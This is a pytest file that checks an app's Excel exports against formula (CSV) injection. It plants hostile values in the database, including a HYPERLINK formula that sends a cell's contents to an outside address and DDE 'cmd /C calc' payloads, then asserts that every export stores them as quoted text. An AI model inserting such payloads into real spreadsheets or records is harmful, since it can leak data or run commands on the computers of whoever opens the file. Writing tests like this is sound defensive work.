"""Every value an export writes is data, never a formula (OWASP formula / CSV injection).

A resident named ``=HYPERLINK("http://x/?"&E5,"点击")`` must come out as that text in every
workbook the app writes; openpyxl (the template fill) would otherwise store it as a live
formula that sends the next cell to a web address when the file is opened.
"""

from __future__ import annotations

import re
import sqlite3
import zipfile
from pathlib import Path

import openpyxl
import pytest

from gridapp.export import LIST_KINDS
from tests.core.test_export_template import ledger_template
from tests.e2e.test_cli_register import gridapp

HOSTILE_NAME = '=HYPERLINK("http://x/?"&E5,"点击")'
HOSTILE = {
    "name": HOSTILE_NAME,
    "address": "+cmd|' /C calc'!A0",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "issue": "-2+3+cmd|' /C calc'!A0",
    "grid": "=1+1网格",
    "tab": "\t=1+2",
}


@pytest.fixture(scope="module")
def hostile_register(tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("inject") / "r.db"
    done = gridapp("--db", str(db), "demo", "--households", "30")
    assert done.returncode == 0, done.stderr
    with sqlite3.connect(db) as conn:
        # Straight into the file, as an imported ledger or a synced record could bring them.
        conn.execute("UPDATE person SET name = ? WHERE id IN (SELECT min(id) FROM person)",
                     (HOSTILE_NAME,))  # fmt: skip
        conn.execute("UPDATE person SET name = ? WHERE id IN "
                     "(SELECT person_id FROM group_membership LIMIT 3)", (HOSTILE_NAME,))  # fmt: skip
        conn.execute("UPDATE person SET name = ? WHERE birth_date < '1946-01-01'", (HOSTILE_NAME,))
        conn.execute("UPDATE person SET notes = ?, actual_address = ?",
                     (HOSTILE["notes"], HOSTILE["tab"]))  # fmt: skip
        conn.execute("UPDATE household SET address = ?", (HOSTILE["address"],))
        conn.execute("UPDATE issue SET title = ?", (HOSTILE["issue"],))
        conn.execute("UPDATE area SET name = ? WHERE id IN "
                     "(SELECT grid_id FROM household LIMIT 1)", (HOSTILE["grid"],))  # fmt: skip
    conn.close()
    return db


def _formulas(book: Path) -> list[str]:
    """Every formula stored in the workbook's sheets."""
    found: list[str] = []
    with zipfile.ZipFile(book) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<f[ >](.*?)</f>", z.read(name).decode("utf-8"))
    return found


def _texts(book: Path) -> set[str]:
    values: set[str] = set()
    for ws in openpyxl.load_workbook(book).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    values.add(cell.value)
                    assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}: {cell.value}"
    return values


def _outputs(db: Path, tmp_path: Path) -> dict[str, Path]:
    made: dict[str, Path] = {}
    runs: dict[str, list[str]] = {
        "ledger": ["export", "ledger"],
        "template": ["export", "template", str(ledger_template(tmp_path / "模板.xlsx"))],
        "monthly": ["report", "monthly"],
    }
    for kind in LIST_KINDS:
        extra = ["--group", "低保"] if kind == "group" else []
        runs[f"list-{kind}"] = ["export", "list", kind, *extra]
    for what, command in runs.items():
        out = tmp_path / f"{what}.xlsx"
        tail = [str(out), "--status", "all"] if what == "template" else [str(out)]
        done = gridapp("--db", str(db), *command, *tail)
        assert done.returncode == 0, (what, done.stderr)
        made[what] = out
    return made


def test_no_export_writes_a_value_as_a_formula(hostile_register: Path, tmp_path: Path) -> None:
    outputs = _outputs(hostile_register, tmp_path)
    seen: set[str] = set()
    for what, book in outputs.items():
        live = [f for f in _formulas(book) if any(s in f for s in ("HYPERLINK", "cmd", "1+"))]
        assert not live, (what, live)
        seen |= {v for v in HOSTILE.values() if v in _texts(book)}
    # the hostile values did reach the workbooks, as text
    assert {HOSTILE_NAME, HOSTILE["address"], HOSTILE["issue"]} <= seen


def test_the_template_fill_marks_risky_text_so_editing_keeps_it_text(
    hostile_register: Path, tmp_path: Path
) -> None:
    out = tmp_path / "filled.xlsx"
    template = ledger_template(tmp_path / "模板.xlsx")
    done = gridapp("--db", str(hostile_register), "export", "template", str(template), str(out))
    assert done.returncode == 0, done.stderr
    ws = openpyxl.load_workbook(out).active
    cells = [c for row in ws.iter_rows() for c in row if c.value == HOSTILE_NAME]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_every_export_marks_risky_text_so_editing_keeps_it_text(
    hostile_register: Path, tmp_path: Path
) -> None:
    """The ledger, the lists and the monthly report (XlsxWriter) give every cell that starts
    like a formula Excel's quote prefix, as the template fill does."""
    marked: dict[str, int] = {}
    for what, book in _outputs(hostile_register, tmp_path).items():
        if what == "template":
            continue  # its own test above
        for ws in openpyxl.load_workbook(book).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value in HOSTILE.values():
                        assert cell.quotePrefix, f"{what} {ws.title}!{cell.coordinate}"
                        marked[what] = marked.get(what, 0) + 1
    assert {"ledger", "list-contacts"} <= set(marked)  # the hostile values were there to mark
